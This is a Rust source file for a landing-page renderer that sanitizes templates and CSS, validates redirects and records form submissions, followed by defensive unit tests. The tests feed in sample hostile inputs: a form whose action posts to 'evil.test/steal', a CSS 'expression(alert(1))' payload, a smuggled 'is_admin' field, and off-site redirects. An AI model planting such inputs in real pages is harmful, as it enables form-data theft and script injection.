//! The landing page façade.
//!
//! [`LandingRenderer`] ties the pieces together: it resolves a page by slug,
//! substitutes and sanitizes its content, neutralizes its CSS, and handles
//! form submissions. It holds no per-page state; a submission re-resolves
//! the page and re-derives its form bindings, so handlers can never act on a
//! stale render.

use std::collections::BTreeMap;
use std::sync::Arc;

use lander_storage::PageStore;
use lander_storage::model::{ConversionEvent, PageDefinition};
use tracing::{debug, error, info, warn};
use url::Url;

use crate::error::RenderError;
use crate::redirect::check_redirect_url;
use crate::sanitize::{
    FormBinding, FormDescriptor, HONEYPOT_FIELD, SafeCss, TrustedHtml, sanitize_custom_css,
};
use crate::template::render_content;
use crate::tracking::ConversionTracker;

/// Longest slug accepted, in bytes.
pub const MAX_SLUG_LEN: usize = 128;

/// Longest stored value per submitted field, in bytes.
pub const MAX_FIELD_VALUE_LEN: usize = 4 * 1024;

/// Who is looking at the page.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Visitor {
    pub visitor_id: String,
    pub session_id: String,
}

impl Visitor {
    #[must_use]
    pub fn new(visitor_id: impl Into<String>, session_id: impl Into<String>) -> Self {
        Self {
            visitor_id: visitor_id.into(),
            session_id: session_id.into(),
        }
    }
}

/// A page ready to be placed in a document shell.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderedPage {
    pub page_id: String,
    pub slug: String,
    /// `meta_title` if set, otherwise the page title.
    pub title: String,
    pub body: TrustedHtml,
    pub css: SafeCss,
    pub forms: Vec<FormDescriptor>,
    /// As configured on the template. Not yet validated.
    pub redirect_url: Option<String>,
}

/// What the visitor sees after submitting a form.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SubmissionOutcome {
    /// Navigate to this validated same-origin URL.
    Redirect(String),
    /// Show the generic confirmation.
    Confirmation,
}

/// Path that bound forms on `slug` submit to.
#[must_use]
pub fn submit_path(slug: &str) -> String {
    format!("/{slug}/submit")
}

/// Whether `slug` is a single, plain URL path segment.
#[must_use]
pub fn is_valid_slug(slug: &str) -> bool {
    !slug.is_empty()
        && slug.len() <= MAX_SLUG_LEN
        && slug
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

/// Resolves, renders and accepts submissions for landing pages.
#[derive(Clone)]
pub struct LandingRenderer {
    store: Arc<dyn PageStore>,
    tracker: ConversionTracker,
    origin: Url,
}

impl LandingRenderer {
    #[must_use]
    pub fn new(store: Arc<dyn PageStore>, tracker: ConversionTracker, origin: Url) -> Self {
        Self {
            store,
            tracker,
            origin,
        }
    }

    /// Public origin used to validate redirects.
    #[must_use]
    pub fn origin(&self) -> &Url {
        &self.origin
    }

    #[must_use]
    pub fn tracker(&self) -> &ConversionTracker {
        &self.tracker
    }

    /// Look up the published page at `slug` without recording anything.
    ///
    /// # Errors
    ///
    /// Returns [`RenderError::PageNotFound`] for malformed slugs, missing
    /// pages and unpublished pages, and [`RenderError::Store`] when the store
    /// cannot be read.
    pub async fn find_page(&self, slug: &str) -> Result<PageDefinition, RenderError> {
        let not_found = || RenderError::PageNotFound {
            slug: slug.to_owned(),
        };

        if !is_valid_slug(slug) {
            debug!(slug_len = slug.len(), "rejected malformed slug");
            return Err(not_found());
        }

        match self.store.find_by_slug(slug).await? {
            Some(page) if page.is_published => Ok(page),
            Some(_) => {
                debug!(slug, "page exists but is not published");
                Err(not_found())
            }
            None => Err(not_found()),
        }
    }

    /// Resolve the page at `slug` and record one `page_view` for `visitor`.
    ///
    /// The event is dispatched in the background; its outcome never affects
    /// the result.
    ///
    /// # Errors
    ///
    /// Same as [`find_page`](Self::find_page).
    pub async fn resolve_page(
        &self,
        slug: &str,
        visitor: &Visitor,
    ) -> Result<PageDefinition, RenderError> {
        let page = self.find_page(slug).await?;
        drop(self.tracker.dispatch(ConversionEvent::page_view(
            &page.id,
            &visitor.visitor_id,
            &visitor.session_id,
        )));
        Ok(page)
    }

    /// Render an already-resolved page. Pure; records nothing.
    #[must_use]
    pub fn render(&self, page: &PageDefinition) -> RenderedPage {
        let binding = FormBinding {
            action: submit_path(&page.slug),
        };
        let doc = render_content(&page.template, &page.content_values, Some(&binding));
        let css = sanitize_custom_css(page.custom_css.as_deref().unwrap_or_default());

        RenderedPage {
            page_id: page.id.clone(),
            slug: page.slug.clone(),
            title: page.display_title().to_owned(),
            body: doc.html,
            css,
            forms: doc.forms,
            redirect_url: page.template.template_config.redirect_url.clone(),
        }
    }

    /// Resolve, track and render the page at `slug`.
    ///
    /// # Errors
    ///
    /// Same as [`find_page`](Self::find_page).
    pub async fn render_page(
        &self,
        slug: &str,
        visitor: &Visitor,
    ) -> Result<RenderedPage, RenderError> {
        let page = self.resolve_page(slug, visitor).await?;
        Ok(self.render(&page))
    }

    /// Accept a submission of form `form_index` on the page at `slug`.
    ///
    /// Only the form's own named controls are recorded; each value is capped
    /// at [`MAX_FIELD_VALUE_LEN`] bytes and repeated names are joined with
    /// `", "`. A filled honeypot is answered with a confirmation and nothing
    /// is recorded. A tracking failure is logged and does not change the
    /// outcome.
    ///
    /// # Errors
    ///
    /// Returns [`RenderError::PageNotFound`] or [`RenderError::Store`] like
    /// [`find_page`](Self::find_page), and [`RenderError::UnknownForm`] when
    /// the page has no form at `form_index`.
    pub async fn handle_form_submission(
        &self,
        slug: &str,
        form_index: usize,
        fields: Vec<(String, String)>,
        visitor: &Visitor,
    ) -> Result<SubmissionOutcome, RenderError> {
        let page = self.find_page(slug).await?;
        let rendered = self.render(&page);
        let form = rendered
            .forms
            .get(form_index)
            .ok_or_else(|| RenderError::UnknownForm {
                slug: slug.to_owned(),
                index: form_index,
            })?;

        let honeypot_filled = fields
            .iter()
            .any(|(name, value)| name == HONEYPOT_FIELD && !value.trim().is_empty());
        if honeypot_filled {
            info!(page_id = %page.id, form = form_index, "honeypot filled, submission discarded");
            return Ok(SubmissionOutcome::Confirmation);
        }

        let form_data = collect_fields(form, fields);
        let event = ConversionEvent::form_submit(
            &page.id,
            &visitor.visitor_id,
            &visitor.session_id,
            form_data,
        );
        if let Err(e) = self.tracker.record(&event).await {
            error!(page_id = %page.id, form = form_index, error = %e, "form submission not recorded");
        }

        Ok(self.outcome(rendered.redirect_url.as_deref()))
    }

    fn outcome(&self, redirect_url: Option<&str>) -> SubmissionOutcome {
        let Some(url) = redirect_url.filter(|u| !u.trim().is_empty()) else {
            return SubmissionOutcome::Confirmation;
        };
        match check_redirect_url(url, &self.origin) {
            Ok(()) => SubmissionOutcome::Redirect(url.trim().to_owned()),
            Err(rejected) => {
                warn!(error = %rejected, "configured redirect rejected");
                SubmissionOutcome::Confirmation
            }
        }
    }
}

impl std::fmt::Debug for LandingRenderer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("LandingRenderer")
            .field("tracker", &self.tracker)
            .field("origin", &self.origin.as_str())
            .finish_non_exhaustive()
    }
}

/// Keep the form's declared controls, joining repeats and capping length.
fn collect_fields(form: &FormDescriptor, fields: Vec<(String, String)>) -> BTreeMap<String, String> {
    let mut data: BTreeMap<String, String> = BTreeMap::new();
    for (name, value) in fields {
        if !form.has_field(&name) {
            continue;
        }
        let value = truncate_to(&value, MAX_FIELD_VALUE_LEN);
        data.entry(name)
            .and_modify(|existing| {
                existing.push_str(", ");
                existing.push_str(value);
            })
            .or_insert_with(|| value.to_owned());
    }
    for value in data.values_mut() {
        if value.len() > MAX_FIELD_VALUE_LEN {
            let end = truncate_to(value, MAX_FIELD_VALUE_LEN).len();
            value.truncate(end);
        }
    }
    data
}

/// Longest prefix of `s` at most `max` bytes that ends on a char boundary.
fn truncate_to(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use std::collections::HashMap;
    use std::time::Duration;

    use super::*;
    use lander_storage::model::{ConversionType, TemplateConfig, TemplateDefinition};
    use lander_storage::{ConversionSink, MemoryStore, StorageError};

    const LEAD_FORM: &str = r#"<h1>{{headline}}</h1>
        <form id="lead" action="https://evil.test/steal">
          <input name="email" type="email"><input name="interest" type="checkbox" value="a">
          <input name="interest" type="checkbox" value="b"><button>Send</button>
        </form>"#;

    struct BrokenSink;

    #[async_trait::async_trait]
    impl ConversionSink for BrokenSink {
        #[allow(clippy::unnecessary_literal_bound)]
        fn name(&self) -> &str {
            "broken"
        }

        async fn record(&self, event: &ConversionEvent) -> Result<(), StorageError> {
            Err(StorageError::Write {
                page_id: event.page_id.clone(),
                reason: "connection reset".to_owned(),
            })
        }
    }

    fn page(slug: &str, redirect_url: Option<&str>) -> PageDefinition {
        PageDefinition {
            id: format!("id-{slug}"),
            slug: slug.to_owned(),
            title: "Valuation".to_owned(),
            meta_title: Some("Free home valuation".to_owned()),
            template: TemplateDefinition {
                id: Some("t1".to_owned()),
                template_html: LEAD_FORM.to_owned(),
                template_config: TemplateConfig {
                    fields: vec!["headline".to_owned()],
                    redirect_url: redirect_url.map(str::to_owned),
                },
            },
            content_values: HashMap::from([("headline".to_owned(), "Sell <i>smarter</i>".to_owned())]),
            custom_css: Some("h1 { color: navy; } div { width: expression(alert(1)); }".to_owned()),
            is_published: true,
        }
    }

    async fn renderer_with(pages: Vec<PageDefinition>) -> (LandingRenderer, MemoryStore) {
        let store = MemoryStore::new();
        for p in pages {
            store.insert_page(p).await;
        }
        let tracker = ConversionTracker::new().with_sink(Arc::new(store.clone()));
        let renderer = LandingRenderer::new(
            Arc::new(store.clone()),
            tracker,
            Url::parse("https://example.com").unwrap(),
        );
        (renderer, store)
    }

    async fn wait_for_events(store: &MemoryStore, n: usize) -> Vec<ConversionEvent> {
        for _ in 0..200 {
            let events = store.events().await;
            if events.len() >= n {
                return events;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        store.events().await
    }

    fn visitor() -> Visitor {
        Visitor::new("v-1", "s-1")
    }

    fn submission(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    #[test]
    fn slug_validation() {
        assert!(is_valid_slug("spring-sale_2026"));
        assert!(!is_valid_slug(""));
        assert!(!is_valid_slug("a/b"));
        assert!(!is_valid_slug("..%2f"));
        assert!(!is_valid_slug(&"x".repeat(MAX_SLUG_LEN + 1)));
    }

    #[tokio::test]
    async fn render_page_produces_safe_output() {
        let (renderer, _) = renderer_with(vec![page("valuation", None)]).await;
        let rendered = renderer.render_page("valuation", &visitor()).await.unwrap();

        assert_eq!(rendered.title, "Free home valuation");
        assert!(rendered.body.as_str().contains("<h1>Sell smarter</h1>"));
        assert!(rendered.body.as_str().contains(r#"action="/valuation/submit""#));
        assert!(!rendered.body.as_str().contains("evil.test"));
        assert!(rendered.css.as_str().contains("color: navy"));
        assert!(!rendered.css.as_str().contains("expression("));
        assert_eq!(rendered.forms.len(), 1);
        assert_eq!(rendered.forms[0].fields, vec!["email", "interest"]);
    }

    #[tokio::test]
    async fn render_records_exactly_one_page_view() {
        let (renderer, store) = renderer_with(vec![page("valuation", None)]).await;
        renderer.render_page("valuation", &visitor()).await.unwrap();

        let events = wait_for_events(&store, 1).await;
        tokio::time::sleep(Duration::from_millis(20)).await;
        assert_eq!(store.events().await.len(), 1);
        assert_eq!(events[0].conversion_type, ConversionType::PageView);
        assert_eq!(events[0].page_id, "id-valuation");
        assert_eq!(events[0].visitor_id, "v-1");
        assert_eq!(events[0].session_id, "s-1");
    }

    #[tokio::test]
    async fn unknown_slug_is_not_found() {
        let (renderer, store) = renderer_with(vec![]).await;
        let err = renderer.render_page("nope", &visitor()).await.unwrap_err();
        assert!(matches!(err, RenderError::PageNotFound { slug } if slug == "nope"));
        assert!(store.events().await.is_empty());
    }

    #[tokio::test]
    async fn unpublished_page_is_not_found() {
        let mut draft = page("draft", None);
        draft.is_published = false;
        let (renderer, _) = renderer_with(vec![draft]).await;
        assert!(matches!(
            renderer.render_page("draft", &visitor()).await,
            Err(RenderError::PageNotFound { .. })
        ));
    }

    #[tokio::test]
    async fn malformed_slug_is_not_found() {
        let (renderer, _) = renderer_with(vec![page("valuation", None)]).await;
        assert!(matches!(
            renderer.find_page("valuation/../x").await,
            Err(RenderError::PageNotFound { .. })
        ));
    }

    #[tokio::test]
    async fn submission_records_declared_fields_and_redirects() {
        let (renderer, store) = renderer_with(vec![page("valuation", Some("/gracias"))]).await;
        let outcome = renderer
            .handle_form_submission(
                "valuation",
                0,
                submission(&[
                    ("_form", "0"),
                    ("_hp_company_site", ""),
                    ("email", "ana@example.com"),
                    ("interest", "a"),
                    ("interest", "b"),
                    ("is_admin", "true"),
                ]),
                &visitor(),
            )
            .await
            .unwrap();

        assert_eq!(outcome, SubmissionOutcome::Redirect("/gracias".to_owned()));
        let events = store.events().await;
        assert_eq!(events.len(), 1);
        let event = &events[0];
        assert_eq!(event.conversion_type, ConversionType::FormSubmit);
        assert_eq!(event.conversion_value, Some(1.0));
        let data = event.form_data.as_ref().unwrap();
        assert_eq!(data.len(), 2);
        assert_eq!(data["email"], "ana@example.com");
        assert_eq!(data["interest"], "a, b");
    }

    #[tokio::test]
    async fn offsite_redirect_falls_back_to_confirmation() {
        let (renderer, store) =
            renderer_with(vec![page("valuation", Some("https://otherdomain.com/x"))]).await;
        let outcome = renderer
            .handle_form_submission("valuation", 0, submission(&[("email", "a@b.c")]), &visitor())
            .await
            .unwrap();
        assert_eq!(outcome, SubmissionOutcome::Confirmation);
        assert_eq!(store.events().await.len(), 1);
    }

    #[tokio::test]
    async fn redirect_with_line_break_falls_back_to_confirmation() {
        let (renderer, store) = renderer_with(vec![page("valuation", Some("/gra\ncias"))]).await;
        let outcome = renderer
            .handle_form_submission("valuation", 0, submission(&[("email", "a@b.c")]), &visitor())
            .await
            .unwrap();
        assert_eq!(outcome, SubmissionOutcome::Confirmation);
        assert_eq!(store.events().await.len(), 1);
    }

    #[tokio::test]
    async fn tracking_failure_does_not_block_navigation() {
        let store = MemoryStore::new();
        store.insert_page(page("valuation", Some("/gracias"))).await;
        let renderer = LandingRenderer::new(
            Arc::new(store),
            ConversionTracker::new().with_sink(Arc::new(BrokenSink)),
            Url::parse("https://example.com").unwrap(),
        );

        let outcome = renderer
            .handle_form_submission("valuation", 0, submission(&[("email", "a@b.c")]), &visitor())
            .await
            .unwrap();
        assert_eq!(outcome, SubmissionOutcome::Redirect("/gracias".to_owned()));
    }

    #[tokio::test]
    async fn tracking_failure_still_confirms_without_redirect() {
        let store = MemoryStore::new();
        store.insert_page(page("valuation", None)).await;
        let renderer = LandingRenderer::new(
            Arc::new(store),
            ConversionTracker::new().with_sink(Arc::new(BrokenSink)),
            Url::parse("https://example.com").unwrap(),
        );

        let outcome = renderer
            .handle_form_submission("valuation", 0, submission(&[("email", "a@b.c")]), &visitor())
            .await
            .unwrap();
        assert_eq!(outcome, SubmissionOutcome::Confirmation);
    }

    #[tokio::test]
    async fn honeypot_submission_is_discarded() {
        let (renderer, store) = renderer_with(vec![page("valuation", Some("/gracias"))]).await;
        let outcome = renderer
            .handle_form_submission(
                "valuation",
                0,
                submission(&[("email", "bot@spam.test"), (HONEYPOT_FIELD, "https://spam.test")]),
                &visitor(),
            )
            .await
            .unwrap();
        assert_eq!(outcome, SubmissionOutcome::Confirmation);
        assert!(store.events().await.is_empty());
    }

    #[tokio::test]
    async fn unknown_form_index_is_rejected() {
        let (renderer, store) = renderer_with(vec![page("valuation", None)]).await;
        let err = renderer
            .handle_form_submission("valuation", 3, submission(&[("email", "x")]), &visitor())
            .await
            .unwrap_err();
        assert!(matches!(err, RenderError::UnknownForm { index: 3, .. }));
        assert!(store.events().await.is_empty());
    }

    #[tokio::test]
    async fn submission_records_no_page_view() {
        let (renderer, store) = renderer_with(vec![page("valuation", None)]).await;
        renderer
            .handle_form_submission("valuation", 0, submission(&[("email", "x")]), &visitor())
            .await
            .unwrap();
        tokio::time::sleep(Duration::from_millis(20)).await;
        let events = store.events().await;
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].conversion_type, ConversionType::FormSubmit);
    }

    #[test]
    fn long_values_are_truncated_on_char_boundary() {
        let form = FormDescriptor {
            index: 0,
            id: None,
            name: None,
            fields: vec!["msg".to_owned()],
        };
        let long = "é".repeat(MAX_FIELD_VALUE_LEN);
        let data = collect_fields(&form, vec![("msg".to_owned(), long)]);
        assert!(data["msg"].len() <= MAX_FIELD_VALUE_LEN);
        assert!(data["msg"].chars().all(|c| c == 'é'));
    }
}
